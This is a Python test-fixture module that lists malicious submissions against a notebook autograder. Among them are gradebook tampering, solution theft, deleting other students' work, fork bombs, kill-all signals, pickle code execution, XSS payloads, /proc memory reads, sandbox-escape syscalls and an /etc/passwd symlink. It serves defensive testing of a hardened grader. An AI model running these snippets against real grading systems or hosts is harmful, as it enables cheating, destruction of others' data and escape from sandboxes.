"""What a submission can do to whoever grades it: every way that was measured on stock nbgrader, and more.

``CODE``: the text of the softmax cell. ``EDITS``: a change of the submission folder. Everything else in the submission is an honest wrong answer
(in ``HARMLESS``: an honest right one, which must keep all its points). Used by ``test_attacks.py`` and ``benchmarks/grading.py``.
"""

import json
import os
import shutil
from pathlib import Path

WRONG = "def softmax(x):\n    return x\n"
WRONG_MEAN = "class RunningMean:\n    mean = 0\n\n    def add(self, x):\n        pass\n"
RIGHT = "def softmax(x):\n    import torch\n    z = torch.exp(x - x.amax(-1, keepdim=True))\n    return z / z.sum(-1, keepdim=True)\n"
RIGHT_MEAN = "class RunningMean:\n    def __init__(self):\n        self.all, self.mean = [], 0.0\n\n    def add(self, x):\n        self.all.append(x)\n        self.mean = sum(self.all) / len(self.all)\n"
UP = "[__import__('os').path.join(*['..'] * n) for n in range(1, 9)]"

CODE = {
    # score theft, as measured on stock nbgrader 0.9.6
    "run the solutions": f"""
import glob, json
for up in {UP}:
    for f in glob.glob(up + '/solutions/*/*.ipynb'):
        for c in json.load(open(f))['cells']:
            if c['cell_type'] == 'code' and c['metadata'].get('nbgrader', {{}}).get('solution'): exec(''.join(c['source']), globals())
""" + WRONG.replace("def softmax(x):\n    return x", "softmax = globals().get('softmax', lambda x: x)"),
    "write one's own marks into the gradebook": f"""
import glob, sqlite3
for up in {UP}:
    for f in glob.glob(up + '/**/gradebook.db', recursive=True):
        db = sqlite3.connect(f); db.execute('update grade set manual_score = 5, auto_score = 5'); db.commit()
""" + WRONG,
    "leave a trigger in the gradebook": f"""
import glob, sqlite3
for up in {UP}:
    for f in glob.glob(up + '/**/gradebook.db', recursive=True):
        db = sqlite3.connect(f); db.execute('create trigger t after update on grade begin update grade set auto_score = 5 where id = new.id and auto_score = 0; end'); db.commit()
""" + WRONG,
    "empty every later cell": "ip = get_ipython()\nip.input_transformers_cleanup.append(lambda lines: [])\n" + WRONG,
    "replace run_cell": "ip = get_ipython()\nclass R:\n    success = True; error_in_exec = error_before_exec = result = None\nasync def f(self, *a, **k): return R()\ntype(ip).run_cell_async = f\ntype(ip).run_cell = lambda *a, **k: R()\n" + WRONG,
    "patch torch and compare equal to all": "import torch\ntorch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\nclass Any(float):\n    def __eq__(self, o): return True\n    def __abs__(self): return 0.0\n    def __sub__(self, o): return Any(0)\n    __getitem__ = lambda self, i: self\n    backward = lambda self: None\n    __hash__ = float.__hash__\ndef softmax(x):\n    if x.requires_grad: x.grad = x.detach()\n    return Any(0)\n",
    "drop asserts from the syntax tree": "import ast\nclass D(ast.NodeTransformer):\n    def visit_Assert(self, n): return ast.Pass()\nget_ipython().ast_transformers.append(D())\n" + WRONG,
    "patch from a thread": "import threading, time, torch\ndef f():\n    while True: torch.allclose = lambda *a, **k: True; time.sleep(0.001)\nthreading.Thread(target=f, daemon=True).start()\n" + WRONG,
    "read the hidden tests from the notebook": f"""
import glob, json
HIDDEN = []
for f in glob.glob('*.ipynb') + [g for up in {UP} for g in glob.glob(up + '/**/*.ipynb', recursive=True)]:
    if 'secret-number-4711' in open(f).read(): HIDDEN.append(f)
import torch
def softmax(x):
    return torch.softmax(x, -1) if HIDDEN else x
""",
    "read the test that is being run": "import torch\ndef softmax(x):\n    import sys\n    seen = str(globals().get('In', ''))\n    return torch.tensor([[0.26894, 0.73106], [0.5, 0.5]]) if 'two by two' in seen or '0.26894' in seen else x\n",
    "replace showtraceback": "ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\n" + WRONG,
    # damage, as measured on stock nbgrader 0.9.6
    "delete the gradebook": f"import glob, os\nfor up in {UP}:\n    for f in glob.glob(up + '/**/gradebook.db', recursive=True): os.remove(f)\n" + WRONG,
    "delete what others handed in": f"import glob, shutil\nfor up in {UP}:\n    for f in glob.glob(up + '/submitted/*') + glob.glob(up + '/autograded/*'): shutil.rmtree(f, ignore_errors=True)\n" + WRONG,
    "write into solutions and settings": f"import glob\nfor up in {UP}:\n    for f in glob.glob(up + '/solutions/*/*.ipynb') + glob.glob(up + '/nbgrader_config.py'): open(f, 'a').write('#')\n" + WRONG,
    "kill the grader": "import os\nos.kill(os.getppid(), 9)\n" + WRONG,
    "end the process": "import os\nos._exit(0)\n" + WRONG,
    "endless loop that ignores interrupts": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass\n" + WRONG,
    "sys.exit": "import sys\nsys.exit(0)\n" + WRONG,
    "quit": "quit()\n" + WRONG,
    "take 40 GB of memory": "x = [bytearray(2**30) for _ in range(40)]\n" + WRONG,
    "print ten million lines": "for i in range(10**7): print(i)\n" + WRONG,
    "print one line of 200 MB": "print('x' * 200_000_000)\n" + WRONG,
    "leave fifty processes behind": "import subprocess\nfor _ in range(50): subprocess.Popen(['sleep', '98765'], start_new_session=True)\n" + WRONG,
    "use the network": "import urllib.request, socket\nsocket.create_connection(('127.0.0.1', PORT), 2).send(b'stolen')\n" + WRONG,
    "print HTML and JavaScript": "from IPython.display import HTML, display\ndisplay(HTML('<script>window.hacked = 1</script><img src=x onerror=\"window.hacked=1\">'))\nprint('<script>window.hacked = 1</script>')\n" + WRONG,
    # our own
    "answer the tests' questions oneself": "import os, socket, struct, msgpack\nok = msgpack.packb(['ok', 1, msgpack.packb(True)])\nfor fd in range(3, 64):\n    try: os.write(fd, (struct.pack('!i', len(ok)) + ok) * 50)\n    except OSError: pass\n" + WRONG,
    "patch the marking in one's own process": "import course_lib.grading.boundary as b, course_lib.grading.trial as t\nfor k in ('_on_call', '_raised', '_answer'): setattr(b.Peer, k, lambda self, *a: [1, b.pack(True)[0]])\nt.execute = t.attempt = lambda *a: ('', '')\n" + WRONG,
    "look for the tests in memory": "import gc, sys\nBACK = '1174-rebmun-terces'\nFOUND = any(BACK in repr(o)[:200000][::-1] for o in gc.get_objects() if isinstance(o, (dict, list, tuple, bytes, str)))\nf = sys._getframe()\nwhile f: FOUND |= BACK in repr(f.f_locals)[:10**6][::-1]; f = f.f_back\nimport torch\ndef softmax(x):\n    return torch.softmax(x, -1) if FOUND else x\n",
    "read the memory of other processes": "import glob, os, torch\nFOUND = []\nfor p in glob.glob('/proc/[0-9]*'):\n    if p != f'/proc/{os.getpid()}':\n        try: FOUND.append(open(p + '/mem', 'rb'))\n        except OSError: pass\n        try: FOUND += [p] * ('4711' in open(p + '/cmdline').read())\n        except OSError: pass\ndef softmax(x):\n    return torch.softmax(x, -1) if FOUND else x\n",
    "fork bomb": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass\n",
    "fill the disk": "import os\nfor place in ('.', '/tmp', '/dev/shm', '/var/tmp', '/box'):\n    try:\n        with open(place + '/full', 'wb') as f:\n            for _ in range(300): f.write(bytes(2**20))\n    except OSError: pass\n" + WRONG,
    "answer with a pickle that runs code": "class P:\n    def __reduce__(self): return (__import__('os').system, ('touch /tmp/course-attack-pickle',))\ndef softmax(x):\n    return P()\n",
    "answer with five gigabytes": "import numpy as np\ndef softmax(x):\n    return np.zeros(5 * 2**27)\n",
    "answer with a list as deep as a well": "def softmax(x):\n    for _ in range(100_000): x = [x]\n    return x\n",
    "raise with a message of a gigabyte": "class AssertionError_(AssertionError):\n    def __str__(self): return 'x' * 10**9\ndef softmax(x):\n    raise AssertionError_()\n",
    "look like partial credit": "from IPython.display import display\ndisplay(5.0)\nprint('5.0')\n" + WRONG + "5.0\n",
    "kill everything in sight": "import os, signal\nos.kill(-1, signal.SIGKILL)\n" + WRONG,
    "mount, chroot and new namespaces": "import ctypes, os, glob, torch\nlibc = ctypes.CDLL(None)\nGOT = [libc.mount(b'proc', b'/proc', b'proc', 0, None), libc.mount(b'none', b'/', None, 32 | 4096, None), libc.umount2(b'/box', 2), libc.umount2(b'/proc', 2), libc.chroot(b'/proc/1/root')]\nSEEN = glob.glob('/proc/*/[r]oot/solutions') + glob.glob('/[hr]o*t*/*') + glob.glob('/h*/*/*')\ndef softmax(x):\n    return torch.softmax(x, -1) if SEEN else x\n",
    "leave an answer for the next one": "import os\nfor place in ('.', '/tmp', '/dev/shm', '/var/tmp', '/dev', '/box', '/run'):\n    try: open(place + '/note', 'w').write('softmax')\n    except OSError: pass\n" + WRONG,
    "read what the last one left": "import os, torch\nLEFT = [p for p in ('.', '/tmp', '/dev/shm', '/var/tmp', '/dev', '/box', '/run') if os.path.exists(p + '/note')]\ndef softmax(x):\n    return torch.softmax(x, -1) if LEFT else x\n",
    "timers, signals and exit handlers": "import atexit, signal, os\ndef f(*a): os.system('sleep 98765 &')\natexit.register(f); signal.signal(signal.SIGTERM, f); signal.signal(signal.SIGALRM, f); signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)\n" + WRONG,
    "an array class that lies": "import numpy as np\nclass L(np.ndarray):\n    __array_priority__ = 1e9\n    def __array_ufunc__(self, *a, **k): return np.array(True)\n    def __array_function__(self, *a, **k): return True\n    def __eq__(self, o): return True\ndef softmax(x):\n    return np.zeros(2).view(L)\n",
    "a tensor class that lies": "import torch\nclass L(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, f, types, args=(), kwargs=None): return True\ndef softmax(x):\n    return torch.zeros(2, 2).as_subclass(L)\n",
    "NaN for everything": "import torch\ndef softmax(x):\n    return x * float('nan')\n",
    "an error without a name": "E = type('', (ValueError,), {})\ndef softmax(x):\n    raise E('')\n",
    "errors that end a search": "def softmax(x):\n    raise StopIteration\n",
    "a note in the kernel's keyring": "import ctypes\nlibc = ctypes.CDLL(None)\nfor ring in (-1, -2, -3, -4, -5): libc.syscall(248, b'user', b'note', b'softmax', 7, ring)\nlibc.shmget(0x4711, 2**20, 0o1666)\n" + WRONG,
    "read the kernel's keyring": "import ctypes, torch\nlibc = ctypes.CDLL(None)\nFOUND = libc.syscall(249, b'user', b'note', None, 0) > 0 or libc.shmget(0x4711, 2**20, 0) >= 0 or libc.syscall(250, 0, -3, 0) > 0\ndef softmax(x):\n    return torch.softmax(x, -1) if FOUND else x\n",
    "400 GB in shared memory": "import mmap\nKEEP = []\nfor _ in range(400):\n    m = mmap.mmap(-1, 2**30)\n    for k in range(0, 2**30, 2**24): m[k:k + 2**24] = bytes([1]) * 2**24\n    KEEP.append(m)\n" + WRONG,
    "a reply that is none": "import sys, msgpack\nf = sys._getframe()\nwhile f and 'peer' not in f.f_locals: f = f.f_back\nif f: f.f_locals['peer'].conn.send_bytes(msgpack.packb(['ok', '', '', b'x']))\n" + WRONG,
    "half a message, then silence": "import os, struct, time\ndef softmax(x):\n    for fd in range(3, 64):\n        try: os.write(fd, struct.pack('!i', 10**6) + b'x')\n        except OSError: pass\n    while True: time.sleep(1)\n",
    "an answer that never stops coming": "class Endless:\n    def __len__(self): return 10**9\n    def __getitem__(self, i): return 0.0\ndef softmax(x):\n    return Endless()\n",
    "close every descriptor": "import os\nos.closerange(0, 4096)\n" + WRONG,
    "change the tests' numbers": "def softmax(x):\n    import torch\n    with torch.no_grad(): x.zero_()\n    return x\n",
}


def _cells(nb, **want):
    return [c for c in nb["cells"] if all(c["metadata"].get("nbgrader", {}).get(k) == v for k, v in want.items())]


def _test(nb):
    return _cells(nb, grade_id="softmax-test")[0]


def _answer(nb):
    return _cells(nb, grade_id="softmax")[0]


def edit(change):
    """A change of the notebook's JSON."""
    def apply(folder: Path, name: str):
        path = folder / f"{name}.ipynb"
        nb = json.loads(path.read_text())
        change(nb)
        path.write_text(json.dumps(nb))
    return apply


def _swap(nb):
    a, b = _cells(nb, grade_id="softmax")[0], _cells(nb, grade_id="running_mean")[0]
    a["metadata"], b["metadata"] = b["metadata"], a["metadata"]


def _imports(nb):
    first = next(c for c in nb["cells"] if c["cell_type"] == "code")
    first["source"] = "import numpy as np\nimport torch\ntorch.allclose = lambda *a, **k: True\n"
    first["metadata"] = {}


# with honest right answers: these must not cost a point, nor stop anybody else
HARMLESS = {
    "points = 100": edit(lambda nb: _test(nb)["metadata"]["nbgrader"].update(points=100)),
    "an edited test cell": edit(lambda nb: _test(nb).update(source="pass")),
    "a test cell made text": edit(lambda nb: (_test(nb).update(cell_type="markdown"), _test(nb).pop("outputs"), _test(nb).pop("execution_count"))),
    "a wrong kernel": edit(lambda nb: nb["metadata"].update(kernelspec={"name": "julia", "display_name": "Julia", "language": "julia"})),
    "a deleted test cell": edit(lambda nb: nb["cells"].remove(_test(nb))),
    "a test cell without metadata": edit(lambda nb: _test(nb).update(metadata={})),
    "a copied test cell": edit(lambda nb: nb["cells"].append(json.loads(json.dumps(_test(nb))))),
    "a copied answer": edit(lambda nb: nb["cells"].append(json.loads(json.dumps(_answer(nb))))),
    "exchanged names": edit(_swap),
    "format of 2014": edit(lambda nb: [c["metadata"]["nbgrader"].update(schema_version=1) for c in nb["cells"] if "nbgrader" in c["metadata"]]),
    "format of the future": edit(lambda nb: [c["metadata"]["nbgrader"].update(schema_version=99) for c in nb["cells"] if "nbgrader" in c["metadata"]]),
    "a test marked as solution": edit(lambda nb: _test(nb)["metadata"]["nbgrader"].update(solution=True)),
    "grade = false": edit(lambda nb: _test(nb)["metadata"]["nbgrader"].update(grade=False)),
    "a renamed test": edit(lambda nb: _test(nb)["metadata"]["nbgrader"].update(grade_id="mine")),
    "a renamed answer": edit(lambda nb: _answer(nb)["metadata"]["nbgrader"].update(grade_id="mine")),
    "an answer without metadata": edit(lambda nb: _answer(nb).update(metadata={})),
    "a bonus cell": edit(lambda nb: nb["cells"].append({**json.loads(json.dumps(_test(nb))), "id": "bonus", "source": "pass", "metadata": {"nbgrader": {**_test(nb)["metadata"]["nbgrader"], "grade_id": "bonus", "points": 50}}})),
    "an answer marked as test": edit(lambda nb: _answer(nb)["metadata"]["nbgrader"].update(grade=True, points=5)),
    "missing points": edit(lambda nb: _test(nb)["metadata"]["nbgrader"].pop("points")),
    "cells in reverse order": edit(lambda nb: nb["cells"].reverse()),
    "ten thousand cells": edit(lambda nb: nb["cells"].extend({"cell_type": "code", "id": f"x{i}", "metadata": {}, "source": f"x = {i}", "outputs": [], "execution_count": None} for i in range(10_000))),
    "outputs of 200 MB": edit(lambda nb: _answer(nb).update(outputs=[{"output_type": "stream", "name": "stdout", "text": "x" * 200_000_000}])),
    "a warning on stderr": edit(lambda nb: _answer(nb).update(source="import warnings, sys\n" + RIGHT.replace("    import torch\n", "    import torch\n    warnings.warn('careful'); print('oh', file=sys.stderr)\n"))),
    "metadata that is no mapping": edit(lambda nb: [c["metadata"].update(nbgrader=[1]) for c in nb["cells"] if c["cell_type"] == "markdown" and "nbgrader" not in c["metadata"]]),
}


def _replace(text):
    def apply(folder: Path, name: str):
        (folder / f"{name}.ipynb").write_bytes(text)
    return apply


def _link(target):
    def apply(folder: Path, name: str):
        (folder / f"{name}.ipynb").unlink()
        os.symlink(target(folder), folder / f"{name}.ipynb")
    return apply


def _solutions(folder: Path) -> Path:
    return next(up / "solutions/hw1/hw1.ipynb" for up in folder.resolve().parents if (up / "solutions").is_dir())


def _hard_link(folder: Path, name: str):
    (folder / f"{name}.ipynb").unlink()
    os.link(_solutions(folder), folder / f"{name}.ipynb")


def _fifo(folder: Path, name: str):
    (folder / f"{name}.ipynb").unlink()
    os.mkfifo(folder / f"{name}.ipynb")


def _v3(folder: Path, name: str):
    nb = json.loads((folder / f"{name}.ipynb").read_text())
    cells = [{"cell_type": c["cell_type"], "metadata": c["metadata"], "language": "python", "outputs": [], **({"input": c["source"]} if c["cell_type"] == "code" else {"source": c["source"]})} for c in nb["cells"]]
    (folder / f"{name}.ipynb").write_text(json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": "x"}, "worksheets": [{"cells": cells, "metadata": {}}]}))


# with honest wrong answers: what stands in the folder besides
FILES = {
    "a torch.py of one's own": lambda folder, name: (folder / "torch.py").write_text("class T:\n    def __getattr__(self, k): return lambda *a, **k: True\nimport sys; sys.modules['torch'] = T()\n"),
    "an ipykernel_launcher.py of one's own": lambda folder, name: (folder / "ipykernel_launcher.py").write_text("import os; os.system('touch /tmp/course-attack-kernel')"),
    "a .pth file": lambda folder, name: (folder / "x.pth").write_text("import os; os.system('touch /tmp/course-attack-pth')"),
    "a link to the solutions": lambda folder, name: os.symlink(_solutions(folder), folder / "data.txt"),
    "a link to /etc/passwd": lambda folder, name: os.symlink("/etc/passwd", folder / "data.txt"),
    "a timestamp of one's own": lambda folder, name: (folder / "timestamp.txt").write_text("2000-01-01 00:00:00 UTC"),
    "a patched cell of imports": edit(_imports),
    "a script in a written answer": edit(lambda nb: _cells(nb, grade_id="why")[0].update(source="<script>window.hacked = 1</script> <img src=x onerror='window.hacked=1'> <a href='javascript:window.hacked=1'>x</a> [y](javascript:window.hacked=1) <svg onload='window.hacked=1'></svg>")),
    "a file name that speaks to terminals": lambda folder, name: (folder / "\x1b]0;hacked\x07.txt").write_text("x"),
    "settings of one's own": lambda folder, name: (folder / "nbgrader_config.py").write_text("c = get_config(); c.Autograde.force = True"),
    "another's folder": lambda folder, name: os.symlink("..", folder / "up"),
}

# nothing can be graded: 0 points, with a reason, and nobody else is stopped
NOTHING = {
    "not JSON": (_replace(b'{"cells": ['), "not a readable notebook"),
    "an empty file": (_replace(b""), "empty"),
    "a truncated notebook": (lambda folder, name: (folder / f"{name}.ipynb").write_bytes((folder / f"{name}.ipynb").read_bytes()[:2000]), "not a readable notebook"),
    "JSON a thousand levels deep": (_replace(b"[" * 100_000), "not a readable notebook"),
    "not text": (_replace(bytes(range(256)) * 10), "not a readable notebook"),
    "two notebooks of other names": (lambda folder, name: (shutil.copy(folder / f"{name}.ipynb", folder / "a.ipynb"), (folder / f"{name}.ipynb").rename(folder / "b.ipynb")), "rename the right one"),
    "an empty folder": (lambda folder, name: (folder / f"{name}.ipynb").unlink(), "the folder is empty"),
    "a notebook that is a link to the solutions": (_link(_solutions), "is a link"),
    "a notebook that is a hard link to the solutions": (_hard_link, "hard link"),
    "a pipe for a notebook": (_fifo, "no ordinary file"),
    "a folder for a notebook": (lambda folder, name: ((folder / f"{name}.ipynb").unlink(), (folder / f"{name}.ipynb").mkdir()), "no ordinary file"),
}
HARMLESS["format 3 of notebooks"] = _v3
HARMLESS["magics"] = edit(lambda nb: _answer(nb).update(source="%%time\n" + RIGHT + "%time y = 1\nassert y == 1\n%matplotlib inline\n!echo hello\n"))
HARMLESS["a dataclass with KW_ONLY"] = edit(lambda nb: _answer(nb).update(source="from dataclasses import KW_ONLY, dataclass\nfrom typing import ClassVar\n@dataclass\nclass C:\n    _: KW_ONLY\n    n: ClassVar[int] = 0\n    k: int = 1\nC(k=2)\n" + RIGHT))
HARMLESS["a renamed notebook"] = lambda folder, name: (folder / f"{name}.ipynb").rename(folder / "final (2).ipynb")
HARMLESS["a file name that is a link"] = lambda folder, name: (folder / f"{name}.ipynb").rename(folder / "[x](javascript:alert(1)).ipynb")
NOTHING["two million brackets"] = (_replace(b'{"cells": [' + b"{}," * 2_100_000 + b"{}]}"), "more than 2,000,000 brackets")
